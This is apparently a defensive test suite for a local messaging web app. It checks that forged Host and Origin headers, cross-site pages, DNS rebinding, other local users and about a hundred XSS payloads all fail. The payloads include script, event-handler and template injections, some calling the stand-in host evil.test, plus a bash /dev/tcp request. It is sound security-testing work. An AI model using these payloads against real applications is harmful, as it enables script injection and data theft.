// What other pages, other users and hostile messages try with a desk. All of it must come to nothing.
import { execFileSync } from "node:child_process";
import { createServer, request } from "node:http";
import { connect } from "node:net";
import { networkInterfaces } from "node:os";
import { addresses, assert, axeEverywhere, chromium, go, launch, online, open, openAll, visit } from "./desks.mjs";

const desk = new URL(addresses[0]);
const [code, host] = [desk.hash.slice(1), desk.host];
const tell = (line) => console.log(`hostile: ${line}`);

// answer makes a request with exactly these headers and gives its status, or "closed", and the headers of the answer.
function answer(method, path, headers, body) {
  return new Promise((resolve) => {
    const made = request({ host: "127.0.0.1", port: desk.port, method, path, headers, setHost: false }, (reply) => {
      reply.resume();
      resolve({ status: reply.statusCode, headers: reply.headers });
    });
    made.on("upgrade", (reply, socket) => (socket.destroy(), resolve({ status: 101, headers: reply.headers })));
    made.on("error", () => resolve({ status: "closed", headers: {} }));
    made.end(body);
  });
}
const ask = async (...request) => (await answer(...request)).status;

// ---- forged requests ----
let refused = 0;
const own = { Host: host, "Sec-Fetch-Site": "same-origin", Origin: `http://${host}` };
const upgrade = { Connection: "Upgrade", Upgrade: "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==" };
for (const forged of [`localhost:${desk.port}`, "evil.test", `evil.test:${desk.port}`, "127.0.0.1", `127.0.0.1:${Number(desk.port) + 1}`, `0.0.0.0:${desk.port}`, `2130706433:${desk.port}`, `127.0.0.1.:${desk.port}`, `${host}.evil.test`]) {
  assert.equal(await ask("GET", "/", { Host: forged, "Sec-Fetch-Site": "none" }), 403, forged);
  assert.equal(await ask("POST", "/login", { ...own, Host: forged }, code), 403, forged);
  assert.equal(await ask("GET", "/socket", { ...own, ...upgrade, Host: forged }), 403, forged);
  refused += 3;
}
for (const site of ["cross-site", "same-site"]) {
  for (const [method, path] of [["GET", "/"], ["GET", "/desk.js"], ["POST", "/login"], ["POST", "/files?name=x"]]) {
    assert.equal(await ask(method, path, { ...own, "Sec-Fetch-Site": site }, method === "POST" ? code : undefined), 403, `${method} ${path} ${site}`);
    refused += 1;
  }
}
for (const origin of [`http://127.0.0.1:${Number(desk.port) + 1}`, "null", "http://evil.test", `https://${host}`, undefined]) {
  const headers = { ...own, ...(origin ? { Origin: origin } : {}) };
  if (!origin) delete headers.Origin;
  assert.equal(await ask("POST", "/login", headers, code), 403, `login ${origin}`);
  assert.equal(await ask("GET", "/socket", { ...headers, ...upgrade }), 403, `socket ${origin}`);
  refused += 2;
}
assert.equal(await ask("POST", "/login", own, "0".repeat(64)), 401);
assert.equal(await ask("POST", "/files?name=x", own, "x"), 401, "a file without a bearer");
for (const method of ["PUT", "DELETE", "OPTIONS", "PATCH", "TRACE"]) assert.notEqual(await ask(method, "/", own), 200, method);
tell(`${refused} forged requests refused`);

// ---- what every answer carries, and never does ----
const policy = `default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob:; connect-src 'self' ws://${host}; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'`;
const answers = [["GET", "/", "none"], ["GET", "/desk.js", "same-origin"], ["GET", "/desk.css", "same-origin"], ["GET", "/texts-ar.json", "same-origin"], ["GET", "/nowhere", "same-origin"], ["GET", "/", "cross-site"], ["POST", "/login", "same-origin"], ["POST", "/files?name=x", "same-origin"]];
for (const [method, path, site] of answers) {
  const { status, headers } = await answer(method, path, { ...own, "Sec-Fetch-Site": site }, method === "POST" ? "0".repeat(64) : undefined);
  assert.notEqual(status, "closed", path);
  assert.deepEqual(
    ["content-security-policy", "x-content-type-options", "referrer-policy", "cross-origin-opener-policy", "cross-origin-resource-policy"].map((name) => headers[name]),
    [policy, "nosniff", "no-referrer", "same-origin", "same-origin"],
    `${method} ${path} ${site}`,
  );
  assert.deepEqual(Object.keys(headers).filter((name) => /^(set-cookie|access-control-)/.test(name)), [], path);
}
tell(`${answers.length} kinds of answers: the policy, and no cookie and no leave for other origins`);

// ---- other interfaces of this computer ----
const elsewhere = Object.values(networkInterfaces()).flat().filter(({ address }) => address !== "127.0.0.1" && !address.startsWith("fe80"));
for (const { address } of [...elsewhere, { address: "127.0.0.2" }]) {
  const outcome = await new Promise((done) => {
    const socket = connect(desk.port, address);
    socket.on("connect", () => (socket.destroy(), done("open")));
    socket.on("error", () => done("refused"));
  });
  assert.equal(outcome, "refused", `it listens on ${address}`);
}
tell(`nobody listens on ${elsewhere.length + 1} other addresses of this computer`);

// ---- another user of this computer ----
if (process.getuid() === 0) {
  const words = `trap '' PIPE; exec 3<>/dev/tcp/127.0.0.1/${desk.port}; printf 'GET / HTTP/1.1\\r\\nHost: ${host}\\r\\nSec-Fetch-Site: none\\r\\n\\r\\n' >&3 || true; cat <&3 || true`;
  const got = execFileSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", "bash", "-c", words], { stdio: ["ignore", "pipe", "ignore"] });
  assert.equal(got.length, 0, "another user got an answer");
  tell("another user of this computer gets no answer");
} else tell("another user of this computer: left out, only root can be one");

// ---- the desk itself, and its code a second time ----
const browser = await launch();
const [first, other] = await openAll(browser, [addresses[0]], [addresses[1]]);
const again = await (await browser.newContext()).newPage();
await again.goto(addresses[0]);
await again.locator(".card h1", { hasText: "has been used" }).waitFor();
await axeEverywhere(again, "a refused address");
tell("a code that was used is refused");

// ---- the page itself: nothing becomes an element, no cookie is set, and the socket takes no bearer but its own ----
const inPage = await first.page.evaluate(async () => {
  const attempt = (what) => {
    try {
      what();
      return "taken";
    } catch {
      return "refused";
    }
  };
  const greeting = (bearer) =>
    new Promise((done) => {
      const socket = new WebSocket(`ws://${location.host}/socket`);
      const text = new TextEncoder().encode(bearer); // ToDesk{id: 1, hello: {bearer}}
      socket.onopen = () => socket.send(new Uint8Array([8, 1, 0x12, text.length + 2, 10, text.length, ...text]));
      socket.onmessage = ({ data }) => data.size > 0 && socket.close(1000, done("answered"));
      socket.onclose = () => done("closed");
    });
  return {
    html: attempt(() => (document.body.innerHTML += "<b>x</b>")),
    script: attempt(() => (document.createElement("script").src = "data:,")),
    policy: attempt(() => trustedTypes.createPolicy("x", { createHTML: (text) => text })),
    own: await greeting(sessionStorage.getItem("valise.bearer")),
    wrong: await greeting("0".repeat(64)),
    none: await greeting(""),
    cookie: document.cookie,
  };
});
assert.deepEqual(inPage, { html: "refused", script: "refused", policy: "refused", own: "answered", wrong: "closed", none: "closed", cookie: "" });
assert.deepEqual(await first.context.cookies(), []);
first.strange.splice(0, first.strange.length, ...first.strange.filter((line) => !/TrustedHTML|TrustedScript|Trusted Type|TrustedTypePolicy|Content Security Policy/.test(line)));
tell("in the page itself: no text becomes an element, a script or a policy; another bearer opens no socket; there is no cookie");

// ---- pages of others in the same browser ----
const trap = createServer((_, reply) => {
  reply.setHeader("Content-Type", "text/html");
  reply.end("<!doctype html><title>trap</title>");
});
await new Promise((ready) => trap.listen(0, "127.0.0.1", ready));
const context = await browser.newContext();
const page = await context.newPage();
await page.goto(`http://127.0.0.1:${trap.address().port}/`);
const attack = async (target) => {
  const outcome = (promise) => promise.then((value) => value, () => "refused");
  const element = (tag, attribute, url) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.onload = () => resolve(tag === "iframe" && !made.contentDocument ? "framed?" : "loaded");
      made.onerror = () => resolve("refused");
      made[attribute] = url;
      document.body.append(made);
      setTimeout(() => resolve("refused"), 1500);
    });
  const socket = new Promise((resolve) => {
    const made = new WebSocket(`${target.replace("http", "ws")}/socket`);
    made.onopen = () => resolve("open");
    made.onerror = () => resolve("refused");
  });
  return {
    read: await outcome(fetch(`${target}/`).then((reply) => reply.status)),
    post: await outcome(fetch(`${target}/login`, { method: "POST", body: "x" }).then((reply) => reply.status)),
    image: await element("img", "src", `${target}/icon.svg`),
    script: await element("script", "src", `${target}/desk.js`),
    socket: await socket,
  };
};
const nothing = { read: "refused", post: "refused", image: "refused", script: "refused", socket: "refused" };
assert.deepEqual(await page.evaluate(attack, desk.origin), nothing);
await page.evaluate((target) => {
  const frame = document.createElement("iframe");
  frame.src = `${target}/`;
  document.body.append(frame);
}, desk.origin);
await page.waitForTimeout(500);
const inner = page.frames().find((frame) => frame !== page.mainFrame());
assert.equal(await inner?.locator("#desk").count().catch(() => 0), 0, "the desk was framed");
tell("a page of another port can read, post, load, frame and open nothing");

const rebound = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: ["--no-sandbox", "--host-resolver-rules=MAP evil.test 127.0.0.1"] });
const victim = await rebound.newPage();
const seen = await victim.goto(`http://evil.test:${desk.port}/`).then((reply) => reply?.status(), () => 403);
assert.equal(seen, 403, "a rebound name was served");
const foreign = await rebound.newPage();
await foreign.goto(`http://evil.test:${trap.address().port}/`);
assert.deepEqual(await foreign.evaluate(attack, desk.origin), nothing, "of another site");
await rebound.close();
tell("a name that points here is refused, and so is a page of another site");

// ---- hostile messages ----
const runs = ["alert(1)", "window.pwned=1", "fetch('http://evil.test/x')", "import('http://evil.test/x.js')"];
const shapes = [
  (js) => `<script>${js}</script>`, (js) => `<img src=x onerror="${js}">`, (js) => `<svg onload="${js}">`, (js) => `"><svg/onload=${js}>`, (js) => `'-${js}-'`,
  (js) => `<iframe srcdoc="<script>${js}</script>">`, (js) => `<a href="javascript:${js}">x</a>`, (js) => `javascript:${js}`, (js) => `<math><mtext></form><img src onerror=${js}>`,
  (js) => `<details open ontoggle=${js}>`, (js) => `<video><source onerror="${js}">`, (js) => `<object data="javascript:${js}">`, (js) => `<link rel=stylesheet href=http://evil.test/x.css onload=${js}>`,
  (js) => `<style>@import 'http://evil.test/x.css';</style>${js}`, (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`, (js) => `<base href=http://evil.test/><img src=x>${js}`,
  (js) => `\${${js}}`, (js) => `{{constructor.constructor('${js}')()}}`, (js) => `<template><script>${js}</script></template>`, (js) => `<form action=http://evil.test/><button>${js}`,
  (js) => `\u202E<script>${js}</script>\u2066`, (js) => `<!--><script>${js}</script>-->`, (js) => `]]><script>${js}</script>`, (js) => `<x contenteditable onfocus=${js} autofocus>`,
  (js) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${js}>"}}}`,
];
const payloads = runs.flatMap((js) => shapes.map((shape) => shape(js))).flatMap((payload) => [payload, payload.toUpperCase(), encodeURIComponent(payload)]);
await visit(first.page, "#/write");
await first.page.locator('.recipients input[role="combobox"]').fill("ke-odpp/duty");
await first.page.locator('[role="option"]').first().waitFor();
await first.page.keyboard.press("Enter");
await first.page.locator("form.composer input[required]").fill(payloads[1]);
await first.page.locator('form.composer input[type="file"]').setInputFiles({ name: "<img src=x onerror=alert(1)>.txt", mimeType: "text/html", buffer: Buffer.from(payloads[0]) });
await online(other.page);
const batch = 15;
let sent = 0;
for (let at = 0; at < payloads.length; at += batch) {
  await first.page.locator("#composer-text").fill(payloads.slice(at, at + batch).join("\n"));
  await first.page.locator('.composer label.grow input').fill(payloads[at].replaceAll(",", " ").slice(0, 60));
  await first.page.locator("form.composer button.main:not([disabled])").click();
  await first.page.waitForFunction((count) => document.querySelectorAll(".message.own").length >= count, ++sent);
}
await other.page.locator(".row", { hasText: "onerror" }).first().waitFor();
await other.page.locator(".row a").first().click();
await other.page.waitForFunction((count) => document.querySelectorAll(".message:not(.own)").length >= count, sent);
const shown = await other.page.locator(".messages").evaluate((list) => list.textContent);
for (const payload of payloads) assert.ok(shown.includes(payload), `not shown as it was written: ${payload}`);
for (const view of ["#/inbox", "#/rooms", "#/device"]) {
  await go(other.page, view);
}
for (const one of [first, other]) {
  assert.equal(await one.page.evaluate(() => window.pwned), undefined);
  assert.equal(await one.page.evaluate(() => document.querySelectorAll("#desk script, #desk iframe, #desk img, #desk svg, #desk style, #desk object").length), 0);
  assert.deepEqual(one.strange, [], "a request, an error or a dialog");
}
tell(`${payloads.length} hostile texts in ${sent} messages, names of files and subjects: shown as they are, nothing ran, nothing was requested`);
await browser.close();
trap.close();
tell("ok");
